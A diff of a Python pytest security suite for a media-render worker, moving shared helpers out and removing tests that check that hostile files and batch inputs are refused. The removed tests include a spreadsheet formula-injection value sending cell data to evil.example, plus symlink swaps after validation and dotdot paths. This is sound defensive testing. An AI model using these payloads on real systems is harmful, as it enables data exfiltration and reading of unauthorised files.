@@ -10,141 +10,38 @@ is the specified one, never repeating the secret the attack carried.
 
 from __future__ import annotations
 
-import csv
-import io
 import json
 import logging
-import os
-from collections.abc import Callable, Iterator
+from collections.abc import Callable
 from dataclasses import dataclass
-from pathlib import Path
-from typing import Any
 
 import pytest
-import redis
 from click.testing import CliRunner
 
-from config.settings import get_settings, load_settings
 from simulator import PNG_BYTES
-from simulator.testing import SimulatorProcess
-from tests.fleet import fleet_env, point_this_process_at
-from tests.pipeline_helpers import make_engine
-from worker.batch import InvalidBatch, parse_records
+from tests.integration.security.hostile import (
+    AVIF,
+    HEIC,
+    HEX_TOKEN,
+    KEY,
+    MODEL,
+    MP3_FRAME,
+    SECRET,
+    SHORT_KEY,
+    UTF16_SECRET,
+    World,
+    _request,
+    assert_nothing_spent,
+    everything_stored,
+    jsonl,
+    via_api,
+    via_batch_api,
+    via_cli,
+    via_cli_render,
+)
 from worker.cli.main import main
-from worker.errors import InvalidRequest
-from worker.job.engine import get_engine, reset_engine
-from worker.job.pipeline import prepare
-from worker.job.record import JobState
-from worker.render.validation import validate_request
+from worker.job.engine import get_engine
 from worker.web.metrics import render_metrics
-
-MODEL = "doubao-seedance-2-0-1080p"
-KEY = "sk-live-9f8e7d6c5b4a39281706f5e4d3c2b1a0"  # a key pasted where an alias belongs
-HEX_TOKEN = "a3f9c2e18b7d4056e9f1a2b3c4d5e6f7a8b9c0d1"
-# A real key can look like a name: 32 characters or fewer, no segment of 20 or more.
-SHORT_KEY = "kv7.ab3-x9.zq-m2"
-SECRET = "hunter2"  # inside the files that must never leave the machine
-UTF16_SECRET = f"secret={SECRET}\n".encode("utf-16")  # starts with the FF FE byte order mark
-MP3_FRAME = b"\xff\xfb\x90\x64" + bytes(413)  # MPEG-1 Layer III, 128 kbit/s, 44.1 kHz
-HEIC = b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + bytes(64)
-AVIF = b"\x00\x00\x00\x1cftypavif\x00\x00\x00\x00avifmif1miaf" + bytes(64)
-
-
-@dataclass
-class World:
-    """The places and services of one row."""
-
-    root: Path
-    allowed: Path  # RELAYDANCE_MEDIA_DIRS
-    outside: Path  # a readable directory the allow-list does not name
-    sim: SimulatorProcess
-    redis: redis.Redis
-    env: dict[str, str]
-    monkeypatch: pytest.MonkeyPatch
-
-    def file(self, where: str, name: str, data: bytes) -> Path:
-        path = (self.allowed if where == "allowed" else self.outside) / name
-        path.write_bytes(data)
-        return path
-
-    def without_keys(self) -> None:
-        """A producer with no keys configured: the workers hold them."""
-        env = {k: v for k, v in self.env.items() if k != "RELAYDANCE_API_KEY"}
-        point_this_process_at(env, self.monkeypatch)
-
-    def with_short_key(self) -> None:
-        """A producer holding, besides ``default``, a key shaped like a name."""
-        keys = json.dumps({"tenant-b": SHORT_KEY})
-        point_this_process_at({**self.env, "RELAYDANCE_API_KEYS": keys}, self.monkeypatch)
-
-
-@pytest.fixture
-def world(
-    redis_url: str,
-    redis_client: redis.Redis,
-    sim: SimulatorProcess,
-    tmp_path: Path,
-    monkeypatch: pytest.MonkeyPatch,
-) -> Iterator[World]:
-    allowed, outside, cwd = tmp_path / "media", tmp_path / "private", tmp_path / "cwd"
-    for directory in (allowed, outside, cwd):
-        directory.mkdir()
-    env = fleet_env(
-        redis_url=redis_url, sim_url=sim.url, output_dir=tmp_path / "renders",
-        RELAYDANCE_MEDIA_DIRS=str(allowed),
-    )  # fmt: skip
-    point_this_process_at(env, monkeypatch)
-    monkeypatch.chdir(cwd)  # the working directory holds nothing of interest
-    yield World(tmp_path, allowed, outside, sim, redis_client, env, monkeypatch)
-    get_settings.cache_clear()
-    reset_engine()
-
-
-# Entry points: each returns the answer (error text) the caller saw ---------------------
-
-
-def _request(**fields: Any) -> dict[str, Any]:
-    return {"model": MODEL, "prompt": "a quiet harbour at dawn", **fields}
-
-
-def via_api(fields: dict[str, Any], key: str = "default") -> str:
-    from tasks.api import enqueue_render
-
-    with pytest.raises(InvalidRequest) as info:
-        enqueue_render(_request(**fields), key=key)
-    return str(info.value)
-
-
-def via_cli(args: list[str]) -> str:
-    result = CliRunner().invoke(main, args)
-    assert result.exit_code == 2, result.output
-    return result.output
-
-
-def via_cli_render(fields: dict[str, Any], key: str = "default") -> str:
-    args = ["render", "--model", MODEL, "--prompt", "a quiet harbour", "--key", key]
-    for name, flag in (("images", "--image"), ("videos", "--video"), ("audio", "--audio")):
-        for value in fields.get(name, []):
-            args += [flag, value]
-    return via_cli(args)
-
-
-def via_batch_api(path: Path, key: str = "default") -> str:
-    from tasks.batches import enqueue_batch_file
-
-    with pytest.raises((InvalidBatch, InvalidRequest)) as info:
-        enqueue_batch_file(path, key=key)
-    error = info.value
-    if isinstance(error, InvalidBatch):
-        return "\n".join(message for bad in error.lines for message in bad.messages())
-    return str(error)
-
-
-def jsonl(world: World, *lines: Any, name: str = "batch.jsonl") -> Path:
-    path = world.root / name
-    path.write_text("".join((ln if isinstance(ln, str) else json.dumps(ln)) + "\n" for ln in lines))
-    return path
-
 
 # The rows ------------------------------------------------------------------------------
 
@@ -335,29 +232,6 @@ ROWS = {
 }  # fmt: skip
 
 
-_READ = {
-    "string": lambda c, k: c.get(k),
-    "hash": lambda c, k: c.hgetall(k),
-    "list": lambda c, k: c.lrange(k, 0, -1),
-    "set": lambda c, k: c.smembers(k),
-    "zset": lambda c, k: c.zrange(k, 0, -1),
-}
-
-
-def everything_stored(client: redis.Redis) -> str:
-    """Every key and value in Redis: job records, batches, broker messages, limits."""
-    parts = []
-    for key in client.scan_iter(count=1000):
-        read = _READ.get(client.type(key))
-        parts.append(f"{key}={read(client, key) if read else ''}")
-    return "\n".join(parts)
-
-
-def assert_nothing_spent(sim: SimulatorProcess) -> None:
-    stats = sim.stats()
-    assert (stats["uploads"], stats["submissions"], stats["billed_tasks"]) == (0, 0, 0), stats
-
-
 @pytest.mark.parametrize("row", list(ROWS.values()), ids=list(ROWS))
 def test_hostile_input_is_refused_before_anything_is_spent_or_stored(
     world: World, row: Row, caplog: pytest.LogCaptureFixture
@@ -379,139 +253,3 @@ def test_hostile_input_is_refused_before_anything_is_spent_or_stored(
 def test_every_row_is_hostile_and_counted() -> None:
     # docs/security.md states this count; a new row must be added there too.
     assert len(ROWS) == 29
-
-
-# The worker's own check, on the handle it uploads ----------------------------------------
-
-
-def _recorded(world: World, fields: dict[str, Any], *, producer_dirs: list[Path]) -> str:
-    """A job recorded by a producer whose allow-list was ``producer_dirs``."""
-    request = validate_request(_request(**fields), media_dirs=producer_dirs)
-    engine = get_engine()
-    return engine.store.create_render(request, alias="default")
-
-
-def _swap_for_symlink(w: World) -> tuple[str, str]:
-    photo = w.file("allowed", "photo.png", PNG_BYTES)
-    job_id = _recorded(w, {"images": [str(photo)]}, producer_dirs=[w.allowed])
-    photo.unlink()
-    photo.symlink_to(w.file("outside", "secret.png", PNG_BYTES))
-    return job_id, "outside the directories"
-
-
-def _swap_for_utf16(w: World) -> tuple[str, str]:
-    voice = w.file("allowed", "voice.mp3", MP3_FRAME * 2)
-    job_id = _recorded(w, {"audio": [str(voice)]}, producer_dirs=[w.allowed])
-    voice.write_bytes(UTF16_SECRET)
-    return job_id, "not a recognised media file"
-
-
-def _wider_producer(w: World) -> tuple[str, str]:
-    photo = w.file("outside", "photo.png", PNG_BYTES)
-    job_id = _recorded(w, {"images": [str(photo)]}, producer_dirs=[w.root])
-    return job_id, "outside the directories"
-
-
-def _dir_swapped_for_symlink(w: World) -> tuple[str, str]:
-    (w.allowed / "sub").mkdir()
-    photo = w.file("allowed", "sub/photo.png", PNG_BYTES)
-    job_id = _recorded(w, {"images": [str(photo)]}, producer_dirs=[w.allowed])
-    os.rename(w.allowed / "sub", w.root / "old-sub")
-    w.file("outside", "photo.png", PNG_BYTES)
-    (w.allowed / "sub").symlink_to(w.outside, target_is_directory=True)
-    return job_id, "outside the directories"
-
-
-def _record_not_canonical(w: World) -> tuple[str, str]:
-    # A record the producer did not resolve (written by other code, or by hand).
-    w.file("allowed", "photo.png", PNG_BYTES)
-    (w.allowed / "sub").mkdir()
-    request = validate_request(
-        _request(images=[f"{w.allowed}/sub/../photo.png"]), check_files=False
-    )
-    return get_engine().store.create_render(request, alias="default"), "now resolves elsewhere"
-
-
-UPLOAD_ROWS = {
-    "file-swapped-for-a-symlink-out-after-validation": _swap_for_symlink,
-    "directory-swapped-for-a-symlink-out-after-validation": _dir_swapped_for_symlink,
-    "file-overwritten-with-utf16-text-after-validation": _swap_for_utf16,
-    "producer-allow-list-wider-than-the-workers": _wider_producer,
-    "record-with-a-dotdot-path": _record_not_canonical,
-}
-
-
-@pytest.mark.parametrize("attack", list(UPLOAD_ROWS.values()), ids=list(UPLOAD_ROWS))
-def test_the_upload_step_checks_again_and_uploads_nothing(
-    world: World, attack: Callable[[World], tuple[str, str]]
-) -> None:
-    job_id, says = attack(world)
-    engine = make_engine(load_settings())
-    try:
-        job = engine.store.get(job_id)
-        assert job is not None
-        outcome = prepare(engine, job_id, seq=job.seq)
-        assert outcome.action == "stop"
-        job = engine.store.get(job_id)
-        assert job is not None
-        assert job.state is JobState.FAILED and job.error_code == "file_refused"
-        assert says in (job.error_message or ""), job.error_message
-        assert SECRET not in (job.error_message or "")
-        assert job.media_urls == {}
-        assert_nothing_spent(world.sim)
-    finally:
-        engine.close()
-
-
-def test_a_file_inside_the_allowed_dirs_is_still_uploaded(world: World) -> None:
-    # The control row: the harness refuses hostile input, not everything.
-    photo = world.file("allowed", "photo.png", PNG_BYTES)
-    job_id = _recorded(world, {"images": [str(photo)]}, producer_dirs=[world.allowed])
-    engine = make_engine(load_settings())
-    try:
-        job = engine.store.get(job_id)
-        assert job is not None
-        assert prepare(engine, job_id, seq=job.seq).action == "next"
-        assert world.sim.stats()["uploads"] == 1
-    finally:
-        engine.close()
-
-
-# Schedules and reports -------------------------------------------------------------------
-
-
-def test_a_scheduled_run_checks_files_like_the_command_line(
-    world: World, caplog: pytest.LogCaptureFixture
-) -> None:
-    from worker.batch.schedules import Schedules
-    from worker.infra.celery_app import app
-
-    photo = world.file("outside", "photo.png", PNG_BYTES)
-    # Added where the file was allowed; the worker that runs it does not allow it.
-    parsed = parse_records([_request(images=[str(photo)])], media_dirs=[world.root])
-    schedules = Schedules(get_engine(), app)
-    schedules.add("nightly", cron="0 2 * * *", parsed=parsed)
-    caplog.set_level(logging.WARNING)
-    assert schedules.run("nightly") is None
-    assert "line 1: images: local file" in caplog.text
-    assert "outside the directories" in caplog.text
-    assert ":job:" not in everything_stored(world.redis)
-    assert_nothing_spent(world.sim)
-
-
-def test_report_cells_never_run_as_formulas(world: World) -> None:
-    from tasks.batches import enqueue_batch_file
-
-    formula = '=HYPERLINK("http://evil.example/?d="&A1,"open")'
-    path = jsonl(world, {**_request(), formula: 1}, _request())
-    # A zero budget: the valid line is skipped, so the batch spends nothing.
-    submission = enqueue_batch_file(path, skip_invalid=True, budget=0.0)
-    result = CliRunner().invoke(main, ["batch", "report", submission.batch_id])
-    assert result.exit_code == 0, result.output
-    rows = list(csv.DictReader(io.StringIO(result.stdout)))
-    invalid = next(row for row in rows if row["state"] == "invalid")
-    assert invalid["error"].startswith("'=HYPERLINK("), invalid["error"]
-    for row in rows:
-        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
-    assert ":job:" not in everything_stored(world.redis)
-    assert_nothing_spent(world.sim)
